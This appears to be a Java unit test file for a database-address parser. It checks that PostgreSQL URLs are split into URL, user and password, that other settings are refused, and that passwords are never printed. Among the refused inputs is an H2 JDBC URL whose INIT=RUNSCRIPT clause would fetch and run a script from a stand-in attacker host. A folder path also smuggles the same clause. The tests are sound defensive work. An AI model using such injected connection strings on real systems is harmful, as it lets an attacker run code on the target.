package io.mintmark.storage.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class StoreAddressTest {
  private static final Path DATA = Path.of("/data");

  @Test
  void theTwoWordsMeanNoneAndTheDataFolder() {
    assertThat(StoreAddress.parse(" off ", DATA)).isEqualTo(new StoreAddress.Off());
    assertThat(StoreAddress.parse("embedded", DATA))
        .isEqualTo(new StoreAddress.Embedded(Path.of("/data/store")));
  }

  @ParameterizedTest
  @CsvSource(
      nullValues = "-",
      delimiter = ' ',
      value = {
        "postgresql://localhost/m jdbc:postgresql://localhost/m - -",
        "postgres://localhost/m jdbc:postgresql://localhost/m - -",
        "jdbc:postgresql://127.0.0.1:5433/m jdbc:postgresql://127.0.0.1:5433/m - -",
        "postgresql://[::1]/m jdbc:postgresql://[::1]/m - -",
        "postgresql://u@localhost/m jdbc:postgresql://localhost/m u -",
        "postgresql://u:p@localhost/m jdbc:postgresql://localhost/m u p",
        "postgresql://u:p%40s%3As+x@localhost/m jdbc:postgresql://localhost/m u p@s:s+x",
        "postgresql://localhost/m?user=u&password=p&options=x"
            + " jdbc:postgresql://localhost/m?options=x u p",
        "postgresql://db/m jdbc:postgresql://db/m?sslmode=verify-full - -",
        "postgresql://db/m?sslmode=disable jdbc:postgresql://db/m?sslmode=disable - -",
        "postgresql://localhost.example.org/m"
            + " jdbc:postgresql://localhost.example.org/m?sslmode=verify-full - -",
        "postgresql://db/m?sslrootcert=/ca.pem"
            + " jdbc:postgresql://db/m?sslrootcert=/ca.pem&sslmode=verify-full - -"
      })
  void aPostgreSqlUrlIsTakenApart(
      String setting, String url, @Nullable String user, @Nullable String password) {
    assertThat(StoreAddress.parse(setting, DATA))
        .isEqualTo(new StoreAddress.PostgreSql(url, user, password));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "none",
        "OFF",
        "h2",
        "jdbc:",
        "jdbc:h2:mem:x",
        "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil.example'",
        "jdbc:mysql://u:s3cret@localhost/m",
        "mysql://u:s3cret@localhost/m",
        "postgresql:m",
        "postgresql:///m",
        "postgresql://localhost",
        "postgresql://localhost/",
        "postgresql://localhost/m#s3cret",
        "postgresql://u:s3cret@a,b/m",
        "postgresql://u:s3 cret@localhost/m",
        "postgresql://u:s3cret%@localhost/m",
        "postgresql://u:s3cret%zz@localhost/m",
        "postgresql://localhost/m?password=s3cret%2",
        "postgresql://localhost:port/m",
        "//u:s3cret@localhost/m",
        "https://u:s3cret@localhost/m"
      })
  void anyOtherSettingIsRefusedWithoutShowingIt(String setting) {
    assertThatThrownBy(() -> StoreAddress.parse(setting, DATA))
        .isInstanceOf(IllegalArgumentException.class)
        .hasNoCause()
        .hasMessageContaining("postgresql://user:password@host/database")
        .message()
        .doesNotContain("s3");
  }

  @Test
  void aFolderThatWouldBeReadAsSettingsIsRefused() {
    assertThatThrownBy(() -> StoreAddress.parse("embedded", Path.of("/x;INIT=RUNSCRIPT")))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void aPasswordIsNotPrinted() {
    assertThat(StoreAddress.parse("postgresql://u:s3cret@localhost/m", DATA).toString())
        .doesNotContain("s3cret");
  }
}
